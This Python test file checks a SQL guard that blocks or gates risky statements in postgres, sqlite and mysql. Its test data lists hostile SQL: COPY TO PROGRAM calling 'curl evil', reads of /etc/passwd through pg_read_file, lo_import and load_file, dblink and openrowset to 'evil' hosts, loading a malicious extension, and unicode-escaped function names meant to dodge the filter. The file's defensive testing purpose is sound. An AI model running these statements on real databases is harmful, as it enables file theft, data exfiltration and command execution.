"""The SQL guard on the engines' terms: what is a write, what always escapes, which functions.

Every case here was ``allow``, or ``approve`` on a read-write connection,
before the guard knew the dialects (or was blocked only as "not a SQL
statement"); the reasons now say what the statement does.
"""

from __future__ import annotations

import pytest

from tether.controls._sql_dialects import FunctionRisk, Refusal, denied_function, listed_names
from tether.controls.sqlguard import SqlPolicy, review_sql
from tether.exceptions import ConfigError

DIALECTS = ("postgres", "sqlite", "mysql")

# (dialect, statement, a word the reason must contain): writes that are not INSERT/UPDATE/DELETE
WRITES: list[tuple[str, str, str]] = [
    ("postgres", "SELECT * INTO stolen FROM orders", "SELECT INTO"),
    ("postgres", "SELECT * INTO TEMP stolen FROM orders", "SELECT INTO"),
    ("postgres", "SELECT * INTO UNLOGGED stolen FROM orders", "SELECT INTO"),
    ("postgres", "select order_id into table stolen from orders where status = 'x'", "SELECT INTO"),
    ("postgres", "WITH o AS (SELECT * FROM orders) SELECT * INTO stolen FROM o", "SELECT INTO"),
    ("mysql", "SELECT status INTO @s FROM orders LIMIT 1", "SELECT INTO"),
    ("postgres", "SELECT * FROM orders FOR UPDATE", "FOR UPDATE/SHARE"),
    ("postgres", "SELECT * FROM orders FOR NO KEY UPDATE", "FOR UPDATE/SHARE"),
    ("postgres", "SELECT * FROM orders FOR SHARE", "FOR UPDATE/SHARE"),
    ("postgres", "SELECT * FROM orders FOR KEY SHARE", "FOR UPDATE/SHARE"),
    ("postgres", "SELECT * FROM orders FOR UPDATE SKIP LOCKED", "FOR UPDATE/SHARE"),
    ("postgres", "SELECT 1 FROM orders FOR UPDATE OF orders NOWAIT", "FOR UPDATE/SHARE"),
    ("postgres", "SELECT * FROM (SELECT * FROM orders FOR UPDATE) o", "FOR UPDATE/SHARE"),
    ("mysql", "SELECT * FROM orders LOCK IN SHARE MODE", "FOR UPDATE/SHARE"),
    ("mysql", "SELECT * FROM orders FOR UPDATE", "FOR UPDATE/SHARE"),
    ("postgres", "COMMENT ON TABLE orders IS 'gone'", "COMMENT"),
    ("postgres", "COMMENT ON COLUMN orders.status IS 'x'", "COMMENT"),
    ("postgres", "ANALYZE orders", "ANALYZE"),
    ("sqlite", "ANALYZE", "ANALYZE"),
    ("postgres", "CREATE TABLE stolen AS SELECT * FROM orders", "CREATE"),
    ("postgres", "CREATE TEMP TABLE stolen AS SELECT * FROM orders", "CREATE"),
    ("postgres", "CREATE TABLE stolen AS TABLE orders", "CREATE"),
    ("postgres", "CREATE VIEW v AS SELECT * FROM orders", "CREATE"),
    ("postgres", "CREATE TEMP VIEW v AS SELECT 1", "CREATE"),
    ("postgres", "CREATE INDEX i ON orders (status)", "CREATE"),
    ("postgres", "CREATE SEQUENCE s", "CREATE"),
    ("postgres", "CREATE SCHEMA s", "CREATE"),
    ("postgres", "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "CREATE"),
    ("sqlite", "CREATE VIRTUAL TABLE v USING fts5(a)", "CREATE"),
    ("postgres", "COPY orders FROM STDIN", "COPY"),
    ("postgres", "COPY orders TO STDOUT", "COPY"),
    ("postgres", "SET search_path = public", "SET"),
    ("postgres", "SET LOCAL statement_timeout = 0", "SET"),
    ("postgres", "SET TRANSACTION READ WRITE", "SET"),
    ("mysql", "SET @x = 1", "SET"),
    ("mysql", "SET GLOBAL max_connections = 1", "SET"),
    ("sqlite", "PRAGMA user_version = 3", "PRAGMA"),
    ("sqlite", "PRAGMA writable_schema = 1", "PRAGMA"),
    ("sqlite", "DETACH x", "DETACH"),
    ("mysql", "SELECT @x := 1", "session variable"),
    ("postgres", "SELECT nextval('order_seq')", "nextval"),
    ("postgres", "SELECT setval('order_seq', 100)", "setval"),
    ("postgres", "SELECT lo_create(0)", "lo_create"),
    ("postgres", "SELECT lo_from_bytea(0, 'x')", "lo_from_bytea"),
    ("postgres", "SELECT txid_current()", "txid_current"),
    ("postgres", "SELECT pg_current_xact_id()", "pg_current_xact_id"),
    ("postgres", "SELECT * FROM orders WHERE order_id = nextval('s')", "nextval"),
]


@pytest.mark.parametrize(("dialect", "sql", "word"), WRITES, ids=[w[1][:50] for w in WRITES])
def test_writes_are_blocked_when_read_only_and_need_approval_otherwise(
    dialect: str, sql: str, word: str
) -> None:
    v = review_sql(sql, SqlPolicy(dialect=dialect))
    assert v.verdict == "block", v.reasons
    assert any(word in r and "read-only" in r for r in v.reasons), v.reasons
    rw = review_sql(sql, SqlPolicy(dialect=dialect, read_only=False))
    assert rw.verdict == "approve", rw.reasons
    assert any(word in r for r in rw.reasons), rw.reasons


def test_a_sequence_may_still_feed_an_insert_where_writes_are_allowed() -> None:
    rw = SqlPolicy(dialect="postgres", read_only=False)
    v = review_sql("INSERT INTO orders (order_id) VALUES (nextval('order_seq'))", rw)
    assert v.verdict == "approve"
    assert v.reasons == ["INSERT adds rows", "the function nextval() writes (postgres)"]


# (dialect, statement, a word the reason must contain): refused even where writes need approval
ESCAPES: list[tuple[str, str, str]] = [
    ("postgres", "BEGIN", "transaction control"),
    ("postgres", "COMMIT", "transaction control"),
    ("postgres", "END", "transaction control"),
    ("postgres", "ROLLBACK", "transaction control"),
    ("postgres", "ROLLBACK TO s", "transaction control"),
    ("postgres", "SAVEPOINT s", "transaction control"),
    ("postgres", "RELEASE SAVEPOINT s", "transaction control"),
    ("sqlite", "BEGIN IMMEDIATE", "transaction control"),
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "another database file"),
    ("sqlite", "ATTACH 'file:x?mode=memory' AS x", "another database file"),
    ("postgres", "COPY orders TO '/tmp/orders.csv'", "outside the database"),
    ("postgres", "COPY orders FROM '/etc/passwd'", "outside the database"),
    ("postgres", "COPY orders FROM PROGRAM 'id'", "outside the database"),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'curl evil'", "outside the database"),
    ("mysql", "KILL 5", "ends another session"),
    ("postgres", "VACUUM", "VACUUM"),
    ("postgres", "VACUUM FULL orders", "VACUUM"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'", "VACUUM"),
    ("postgres", "REINDEX TABLE orders", "REINDEX"),
    ("sqlite", "REINDEX", "REINDEX"),
    ("postgres", "CLUSTER orders", "CLUSTER"),
    ("postgres", "REFRESH MATERIALIZED VIEW mv", "REFRESH"),
    ("postgres", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "LOCK"),
    ("mysql", "LOCK TABLES orders WRITE", "LOCK"),
    ("mysql", "UNLOCK TABLES", "UNLOCK"),
    ("postgres", "LISTEN orders_changed", "LISTEN"),
    ("postgres", "NOTIFY orders_changed", "NOTIFY"),
    ("postgres", "CALL refund_everything()", "CALL"),
    ("mysql", "CALL p()", "CALL"),
    ("postgres", "DO $$ BEGIN DELETE FROM orders; END $$", "DO"),
    ("postgres", "PREPARE p AS DELETE FROM orders", "PREPARE"),
    ("postgres", "EXECUTE p", "EXECUTE"),
    ("mysql", "PREPARE s FROM @q", "PREPARE"),
    ("postgres", "DEALLOCATE p", "DEALLOCATE"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN"),
    ("postgres", "DECLARE c CURSOR FOR SELECT * FROM orders", "DECLARE"),
    ("postgres", "FETCH c", "FETCH"),
    ("postgres", "CHECKPOINT", "CHECKPOINT"),
    ("postgres", "DISCARD ALL", "DISCARD"),
    ("postgres", "RESET ALL", "RESET"),
    ("postgres", "SET ROLE admin", "SET"),
    ("postgres", "SET SESSION AUTHORIZATION admin", "SET"),
    ("postgres", "LOAD 'auto_explain'", "LOAD"),
    ("postgres", "ALTER SYSTEM SET fsync = off", "ALTER"),
    ("postgres", "CREATE EXTENSION dblink", "CREATE"),
    ("postgres", "SHOW search_path", "SHOW"),
    ("mysql", "FLUSH TABLES", "FLUSH"),
    ("mysql", "RENAME TABLE orders TO old_orders", "RENAME"),
    ("mysql", "OPTIMIZE TABLE orders", "OPTIMIZE"),
    ("sqlite", "REPLACE INTO orders VALUES (1)", "REPLACE"),
    ("mysql", "SHUTDOWN", "SHUTDOWN"),
]


@pytest.mark.parametrize(("dialect", "sql", "word"), ESCAPES, ids=[e[1][:50] for e in ESCAPES])
def test_what_escapes_the_caller_is_refused_whatever_the_policy(
    dialect: str, sql: str, word: str
) -> None:
    relaxed = SqlPolicy(dialect=dialect, read_only=False, destructive="approve")
    v = review_sql(sql, relaxed)
    assert v.verdict == "block", v.reasons
    assert any(word in r for r in v.reasons), v.reasons


def _called(name: str) -> str:
    """A name the list entry matches: a prefix entry ``pg_ls_*`` gives ``pg_ls_x``."""
    return name[:-1] + "x" if name.endswith("*") else name


DENIED = sorted(
    {
        (engine, _called(name), risk)
        for engine, names in listed_names().items()
        for name, risk in names.items()
        if "." not in name
    }
)


def _forms(name: str, dialect: str) -> list[str]:
    quote = "`" if dialect == "mysql" else '"'
    schema = "pg_catalog" if dialect == "postgres" else "main"
    return [
        f"SELECT {name}('a', 1)",
        f"select {name.upper()}('a', 1)",
        f"SELECT {schema}.{name}('a', 1)",
        f"SELECT {quote}{name}{quote}('a', 1)",
        f"SELECT {schema}.{quote}{name.upper()}{quote}('a', 1)",
        f"SELECT order_id FROM orders WHERE status = {name}('a')",
        f"SELECT * FROM orders ORDER BY {name}(order_id)",
        f"WITH x AS (SELECT {name}('a') AS v) SELECT v FROM x",
        f"SELECT (SELECT {name}('a')) AS v",
        f"SELECT CASE WHEN status = 'x' THEN {name}('a') END FROM orders",
        f"SELECT * FROM {name}('a')",
        f"INSERT INTO orders (order_id) SELECT {name}('a')",
    ]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(("engine", "name", "risk"), DENIED, ids=[f"{d[0]}:{d[1]}" for d in DENIED])
def test_every_listed_function_is_refused_in_every_dialect_and_form(
    dialect: str, engine: str, name: str, risk: FunctionRisk
) -> None:
    read_only = SqlPolicy(dialect=dialect)
    read_write = SqlPolicy(dialect=dialect, read_only=False, destructive="approve")
    for sql in _forms(name, dialect):
        v = review_sql(sql, read_only)
        assert v.verdict == "block", (sql, v.reasons)
        assert any(f"the function {name}()" in r for r in v.reasons), (sql, v.reasons)
        rw = review_sql(sql, read_write)
        assert rw.verdict == ("approve" if risk is FunctionRisk.WRITES else "block"), (
            sql,
            rw.reasons,
        )
        assert any(str(risk) in r for r in rw.reasons), (sql, rw.reasons)


NAMED = [
    "SELECT query_to_xml('SELECT * FROM users', true, false, '')",
    "SELECT query_to_xmlschema('SELECT * FROM users', true, false, '')",
    "SELECT query_to_xml_and_xmlschema('SELECT * FROM users', true, false, '')",
    "SELECT table_to_xml('users', true, false, '')",
    "SELECT table_to_xmlschema('users', true, false, '')",
    "SELECT table_to_xml_and_xmlschema('users', true, false, '')",
    "SELECT cursor_to_xml('c', 10, true, false, '')",
    "SELECT schema_to_xml('public', true, false, '')",
    "SELECT database_to_xml(true, false, '')",
    "SELECT database_to_xml_and_xmlschema(true, false, '')",
    "SELECT ts_stat('SELECT to_tsvector(email) FROM users')",
    "SELECT dblink_connect('c', 'host=evil')",
    "SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')",
    "SELECT * FROM dblink('dbname=shop', 'SELECT email FROM users') AS t(email text)",
    "SELECT set_config('search_path', 'evil', false)",
    "SELECT pg_catalog.set_config('statement_timeout', '0', false)",
    "SELECT \"set_config\"('work_mem', '1TB', false)",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT pg_ls_dir('.')",
    "SELECT * FROM pg_catalog.pg_ls_dir('.')",
    "SELECT pg_stat_file('postgresql.conf')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(16409, '/tmp/x')",
    "SELECT lo_unlink(16409)",
    "SELECT pg_sleep(60)",
    "SELECT pg_sleep_for('1 minute')",
    "SELECT pg_terminate_backend(42)",
    "SELECT pg_cancel_backend(42)",
    "SELECT pg_reload_conf()",
    "SELECT pg_rotate_logfile()",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_advisory_xact_lock(1)",
    "SELECT pg_try_advisory_lock(1)",
    "SELECT pg_advisory_unlock_all()",
    "SELECT pg_notify('orders', 'x')",
    "SELECT pg_create_logical_replication_slot('s', 'test_decoding')",
    "SELECT pg_stat_reset()",
    "SELECT cron.schedule('* * * * *', 'DELETE FROM orders')",
    "SELECT 1 FROM orders WHERE pg_sleep(10) IS NULL",
    "SELECT count(*) OVER (PARTITION BY pg_sleep(1)) FROM orders",
    "SELECT U&\"\\0073et_config\"('a', 'b', false)",
    "SELECT U&\"\\+000073et_config\"('a', 'b', false)",
]


@pytest.mark.parametrize("sql", NAMED)
def test_the_named_postgres_functions_are_refused(sql: str) -> None:
    v = review_sql(sql, SqlPolicy(dialect="postgres", read_only=False, destructive="approve"))
    assert v.verdict in ("block", "approve"), v.reasons
    assert any("the function" in r for r in v.reasons), v.reasons
    assert review_sql(sql, SqlPolicy(dialect="postgres")).verdict == "block"


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
        ("sqlite", "SELECT readfile('/etc/passwd')"),
        ("sqlite", "SELECT writefile('/tmp/x', 'data')"),
        ("sqlite", "SELECT edit('text', 'vi')"),
        ("sqlite", "SELECT * FROM fsdir('/')"),
        ("sqlite", "SELECT * FROM zipfile('/tmp/x.zip')"),
        ("sqlite", "SELECT eval('DELETE FROM orders')"),
        ("sqlite", "SELECT fts3_tokenizer('simple', x'4141414141414141')"),
        ("mysql", "SELECT sleep(10)"),
        ("mysql", "SELECT benchmark(100000000, md5('x'))"),
        ("mysql", "SELECT get_lock('x', 10)"),
        ("mysql", "SELECT load_file('/etc/passwd')"),
        ("mysql", "SELECT `SLEEP`(1)"),
        ("tsql", "SELECT * FROM openrowset('SQLNCLI', 'server=evil', 'SELECT 1')"),
    ],
)
def test_sqlite_and_mysql_functions_are_refused(dialect: str, sql: str) -> None:
    v = review_sql(sql, SqlPolicy(dialect=dialect, read_only=False, destructive="approve"))
    assert v.verdict == "block", v.reasons
    assert any("the function" in r and f"({dialect})" in r for r in v.reasons), v.reasons


ALLOWED_FUNCTIONS: list[tuple[str, str]] = [
    ("postgres", "SELECT current_setting('search_path')"),
    ("postgres", "SELECT currval('order_seq'), lastval()"),
    ("postgres", "SELECT txid_current_if_assigned(), pg_current_xact_id_if_assigned()"),
    ("postgres", "SELECT pg_current_snapshot(), txid_current_snapshot()"),
    ("postgres", "SELECT random(), now(), md5(status), lower(status) FROM orders"),
    ("postgres", "SELECT to_json(o), xmlelement(name o, status) FROM orders o"),
    ("postgres", "SELECT * FROM generate_series(1, 3)"),
    ("postgres", "SELECT pg_get_viewdef('v'), pg_typeof(1), version()"),
    ("postgres", "SELECT format('%s', order_id), log(2.0), ln(2.0) FROM orders"),
    ("postgres", "SELECT schedule(1)"),  # only cron.schedule is listed
    ("sqlite", "SELECT json_extract(extra, '$.a'), printf('%d', pos), datetime('now') FROM orders"),
    ("mysql", "SELECT concat(status, '!'), date_format(now(), '%Y') FROM orders"),
]


@pytest.mark.parametrize(("dialect", "sql"), ALLOWED_FUNCTIONS)
def test_reads_of_state_stay_allowed(dialect: str, sql: str) -> None:
    v = review_sql(sql, SqlPolicy(dialect=dialect))
    assert (v.verdict, v.reasons) == ("allow", [])


def _refusal(name: str, schema: str | None = None, dialect: str | None = None) -> Refusal:
    refusal = denied_function(name, schema, dialect)
    assert refusal is not None, name
    return refusal


def test_the_lookup_prefers_the_policys_engine_and_matches_qualified_names() -> None:
    nextval = _refusal("NEXTVAL", dialect="mysql")
    assert (nextval.engine, nextval.name, nextval.risk) == ("mysql", "nextval", FunctionRisk.WRITES)
    assert _refusal("nextval", dialect="postgres").engine == "postgres"
    assert denied_function("schedule") is None
    assert _refusal("schedule", schema="CRON").risk is FunctionRisk.RUNS_SQL
    assert _refusal("lo_import").risk is FunctionRisk.OUTSIDE
    assert _refusal("lo_truncate").risk is FunctionRisk.WRITES
    assert _refusal("\\0073et_config").name == "set_config"
    assert denied_function("current_setting") is None
    assert denied_function("txid_current_if_assigned") is None


def test_an_unknown_dialect_is_a_configuration_error() -> None:
    with pytest.raises(ConfigError, match="unknown SQL dialect 'postgress'"):
        SqlPolicy(dialect="postgress")
    assert SqlPolicy(dialect=None).dialect is None


def test_sql_nested_too_deeply_is_refused_not_raised() -> None:
    sql = "SELECT " + "(" * 5000 + "1" + ")" * 5000
    v = review_sql(sql)
    assert v.verdict == "block"
    assert v.reasons
